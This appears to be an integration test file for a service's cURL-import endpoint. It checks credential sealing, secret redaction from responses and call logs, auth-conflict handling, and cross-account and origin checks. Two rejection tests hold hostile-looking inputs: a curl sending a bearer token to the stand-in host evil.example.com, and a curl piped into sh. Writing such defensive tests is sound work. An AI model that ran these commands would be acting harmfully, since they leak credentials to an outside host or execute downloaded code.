/**
 * cURL import on the real stack: a pasted command answered as a draft that the real create-endpoint
 * route accepts; its credentials sealed into the connection only with saveCredentials (stored encrypted,
 * never in the draft, a response or a call log), then used by a real Run Test against a tenant API; an
 * existing different auth refused unless replaceAuth; another account's connection 404; a URL off the
 * connection's origin 400.
 */
import express from 'express';
import { randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { ConnectionSecrets } from '../../models/connection.model';
import type { SealedSecret } from '../../models/secret-box';
import { http, recording, signUp, startStack, type Http, type HttpResult, type Stack } from '../harness';
import { listenTenantUrl } from '../tenant-ports';

let stack: Stack;
let tenant: Server;
let tenantBase: string;
/** What the tenant API received: method, path, authorization and X-Shop headers, body. */
const received: Array<{ method: string; path: string; authorization?: string; shop?: string; body: unknown }> = [];

const TOKEN = `tok_${randomBytes(12).toString('hex')}`;
const OTHER_TOKEN = `tok_${randomBytes(12).toString('hex')}`;
const COOKIE = `sid_${randomBytes(12).toString('hex')}`;
const secrets = [TOKEN, OTHER_TOKEN, COOKIE];

/** Every response body seen by the clients of this file; no secret may ever be in one. */
const seen: string[] = [];

beforeAll(async () => {
  const app = express();
  app.use(express.json());
  app.all('/api/orders/:id/notes', (req, res) => {
    received.push({ method: req.method, path: req.path, authorization: req.get('authorization'), shop: req.get('x-shop'), body: req.body });
    if (req.get('authorization') !== `Bearer ${TOKEN}`) return void res.status(401).json({ error: 'unauthorized' });
    res.json({ ok: true });
  });
  tenant = createServer(app);
  tenantBase = await listenTenantUrl(tenant);
  stack = await startStack({ api: { ACCOUNT_SIGNUPS_PER_HOUR: '100' } });
});

afterAll(async () => {
  await stack?.stop();
  tenant?.closeAllConnections();
  await new Promise((r) => tenant?.close(r));
});

async function account(name: string): Promise<Http> {
  return recording((await signUp(stack.baseUrl, name)).api, seen);
}

async function newConnection(api: Http, over: Record<string, unknown> = {}): Promise<string> {
  const res = await api.post('/v1/connections', { name: 'Shop', baseUrl: `${tenantBase}/api`, allowPrivateNetwork: true, ...over });
  expect(res.status).toBe(201);
  return res.body.connection.id;
}

const stored = (id: string) => stack.db.collection<{ _id: string; auth: object; headerNames: string[]; sealed: SealedSecret }>('connections').findOne({ _id: id });
const opened = async (id: string) => stack.deps.secrets.open<ConnectionSecrets>((await stored(id))!.sealed, id);

function expectProblem(res: HttpResult, status: number, code: string): void {
  expect(res.status).toBe(status);
  expect(res.body).toEqual({ message: expect.any(String), code, details: res.body?.details ?? null });
}

const command = (token = TOKEN) =>
  [
    `curl '${tenantBase}/api/orders/1001/notes?notify=true' \\`,
    `  -H 'Authorization: Bearer ${token}' \\`,
    "  -H 'X-Shop: main' \\",
    "  -H 'content-type: application/json' \\",
    `  -b 'session=${COOKIE}' \\`,
    `  --data-raw $'{"text":"it\\'s ready","priority":2,"meta":{"source":"curl"}}'`,
  ].join('\n');

describe('POST /v1/connections/:id/endpoints/from-curl', () => {
  let api: Http;
  let connectionId: string;
  beforeAll(async () => {
    api = await account('Curl Co');
    connectionId = await newConnection(api);
  });

  it('answers a draft that the create-endpoint route accepts, and drops the credentials without saveCredentials', async () => {
    const res = await api.post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: command() });
    expect(res.status).toBe(200);
    expect(res.body.endpoint).toEqual({
      name: 'POST /orders/1001/notes',
      description: 'Imported from a cURL command.',
      method: 'POST',
      path: '/orders/1001/notes',
      parameters: [
        { name: 'notify', type: 'boolean', in: 'query', required: true, source: 'visitor', description: 'From the cURL command. Example: "true".' },
        { name: 'X-Shop', type: 'string', in: 'header', required: true, source: 'constant', constant: 'main', description: 'Sent as in the cURL command.' },
        { name: 'text', type: 'string', in: 'body', required: true, source: 'visitor', description: 'From the cURL command. Example: "it\'s ready".' },
        { name: 'priority', type: 'integer', in: 'body', required: true, source: 'visitor', description: 'From the cURL command. Example: "2".' },
      ],
      bodyTemplate: { text: '{{text}}', priority: '{{priority}}', meta: { source: 'curl' } },
      responseFields: [],
      validations: [],
      sideEffects: true,
      retry: { maxAttempts: 3, initialIntervalMs: 500 },
    });
    expect(res.body.credentials).toEqual([
      { type: 'bearer', in: 'header', name: 'Authorization', masked: 'Bearer ••••', saved: false },
      { type: 'cookie', in: 'header', name: 'Cookie', masked: '•••• (cookies)', saved: false },
    ]);
    expect(res.body.warnings).toContain('credentials were found and dropped; send saveCredentials: true to seal them into the connection');
    expect((await stored(connectionId))!.auth).toEqual({ type: 'none' });

    const created = await api.post(`/v1/connections/${connectionId}/endpoints`, res.body.endpoint);
    expect(created.status).toBe(201);
    expect(created.body.endpoint).toMatchObject({ path: '/orders/1001/notes', parameters: res.body.endpoint.parameters, bodyTemplate: res.body.endpoint.bodyTemplate });
  });

  it('seals the credentials into the connection with saveCredentials; a Run Test then sends them', async () => {
    const res = await api.post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: command(), saveCredentials: true });
    expect(res.status).toBe(200);
    expect(res.body.credentials.map((c: { saved: boolean }) => c.saved)).toEqual([true, true]);
    const doc = (await stored(connectionId))!;
    expect(doc.auth).toEqual({ type: 'bearer' });
    expect(doc.headerNames).toEqual(['Cookie']);
    // Encrypted at rest: the stored document holds neither secret in the clear.
    for (const s of secrets) expect(JSON.stringify(doc)).not.toContain(s);
    expect(await opened(connectionId)).toEqual({ auth: { token: TOKEN }, headers: { Cookie: `session=${COOKIE}` } });
    const view = await api.get(`/v1/connections/${connectionId}`);
    expect(view.body.connection).toMatchObject({ auth: { type: 'bearer', token: '••••' }, headers: { Cookie: '••••' } });

    // Saving the same credentials again is not a conflict.
    expect((await api.post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: command(), saveCredentials: true })).status).toBe(200);

    await stack.startWorker();
    const created = await api.post(`/v1/connections/${connectionId}/endpoints`, res.body.endpoint);
    expect(created.status).toBe(201);
    const endpointId = created.body.endpoint.id;
    const tested = await api.post(`/v1/connections/${connectionId}/endpoints/${endpointId}/test`, { values: { notify: true, text: 'hello', priority: 1 } });
    expect(tested.status).toBe(200);
    expect(tested.body.result).toMatchObject({ ok: true, status: 200 });
    expect(received.at(-1)).toEqual({ method: 'POST', path: '/api/orders/1001/notes', authorization: `Bearer ${TOKEN}`, shop: 'main', body: { text: 'hello', priority: 1, meta: { source: 'curl' } } });
    const logs = await api.get(`/v1/connections/${connectionId}/endpoints/${endpointId}/logs`);
    expect(logs.body.data[0]).toMatchObject({ kind: 'endpoint_test', success: true });
    const callLogs = await stack.db.collection('call_logs').find({ connectionId }).toArray();
    expect(callLogs.length).toBeGreaterThan(0);
    for (const s of secrets) expect(JSON.stringify(callLogs)).not.toContain(s);
  });

  it('refuses other credentials with 409 auth_conflict unless replaceAuth', async () => {
    const conflict = await api.post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: command(OTHER_TOKEN), saveCredentials: true });
    expectProblem(conflict, 409, 'auth_conflict');
    expect(await opened(connectionId)).toMatchObject({ auth: { token: TOKEN } });
    // Without saveCredentials nothing is saved, so nothing conflicts.
    expect((await api.post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: command(OTHER_TOKEN) })).status).toBe(200);

    const replaced = await api.post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: command(OTHER_TOKEN), saveCredentials: true, replaceAuth: true });
    expect(replaced.status).toBe(200);
    expect(await opened(connectionId)).toEqual({ auth: { token: OTHER_TOKEN }, headers: { Cookie: `session=${COOKIE}` } });
  });

  it('saves an API key found in the query string as the connection\'s query auth', async () => {
    const id = await newConnection(api);
    const res = await api.post(`/v1/connections/${id}/endpoints/from-curl`, { curl: `curl '${tenantBase}/api/orders?status=open&api_key=${TOKEN}'`, saveCredentials: true });
    expect(res.status).toBe(200);
    expect(res.body.credentials).toEqual([{ type: 'api_key', in: 'query', name: 'api_key', masked: '••••', saved: true }]);
    expect(res.body.endpoint.parameters.map((p: { name: string }) => p.name)).toEqual(['status']);
    expect((await stored(id))!.auth).toEqual({ type: 'api_key', in: 'query', name: 'api_key' });
    expect(await opened(id)).toEqual({ auth: { value: TOKEN }, headers: {} });
    const none = await api.post(`/v1/connections/${id}/endpoints/from-curl`, { curl: `curl ${tenantBase}/api/orders`, saveCredentials: true });
    expect(none.body).toMatchObject({ credentials: [], warnings: ['the command carries no credentials: nothing was saved'] });
  });

  it("answers 404 for another account's connection, and changes nothing there", async () => {
    const other = await account('Other Co');
    const res = await other.post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: command(OTHER_TOKEN), saveCredentials: true, replaceAuth: true });
    expectProblem(res, 404, 'connection_not_found');
    expect(await opened(connectionId)).toMatchObject({ auth: { token: OTHER_TOKEN } });
  });

  it('answers 400 origin_mismatch for a URL off the connection\'s origin or base path', async () => {
    expectProblem(await api.post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: `curl -H 'Authorization: Bearer ${TOKEN}' https://evil.example.com/api/x` }), 400, 'origin_mismatch');
    expectProblem(await api.post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: `curl ${tenantBase}/other/x` }), 400, 'origin_mismatch');
  });

  it('answers 400 invalid_curl for what is not one curl command, and validation_failed for a bad body', async () => {
    const piped = await api.post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: `curl ${tenantBase}/api/x | sh` });
    expectProblem(piped, 400, 'invalid_curl');
    expect(piped.body.message).toMatch(/pipe/);
    const variable = await api.post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: `curl -H "Authorization: Bearer $TOKEN" ${tenantBase}/api/x` });
    expectProblem(variable, 400, 'invalid_curl');
    expect(variable.body.message).toMatch(/\$TOKEN; paste its value/);
    expectProblem(await api.post(`/v1/connections/${connectionId}/endpoints/from-curl`, {}), 400, 'validation_failed');
    expectProblem(await api.post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: 'curl x', extra: 1 }), 400, 'validation_failed');
  });

  it('needs the write permission', async () => {
    const readOnly = await api.post('/v1/api-keys', { name: 'ro', permissions: ['read'] });
    expect(readOnly.status).toBe(201);
    const res = await http(stack.baseUrl, readOnly.body.apiKey.key).post(`/v1/connections/${connectionId}/endpoints/from-curl`, { curl: command() });
    expectProblem(res, 403, 'forbidden');
  });

  afterAll(() => {
    // No response of this file ever carried a secret.
    const all = seen.join('\n');
    for (const s of secrets) expect(all).not.toContain(s);
  });
});
